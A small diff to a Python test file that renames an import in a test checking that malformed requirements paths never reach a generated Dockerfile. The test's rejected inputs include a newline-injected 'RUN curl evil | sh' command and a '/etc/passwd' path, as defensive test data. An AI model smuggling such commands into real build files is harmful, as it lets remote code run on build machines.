@@ -634,7 +634,7 @@ def test_import_notes_from_a_hostile_manifest_are_shown_escaped(tmp_path, capsys
 
 
 def test_requirements_with_a_newline_never_reach_the_dockerfile(tmp_path) -> None:
-    from torchdeck.backends.eks.image import ImagePlan, code_dockerfile, validate_image
+    from torchdeck.backends.eks.image_plan import ImagePlan, code_dockerfile, validate_image
 
     for bad in ("req.txt\nRUN curl evil | sh", "../req.txt", "/etc/passwd", "a\rb"):
         with pytest.raises(SpecError, match="--requirements"):
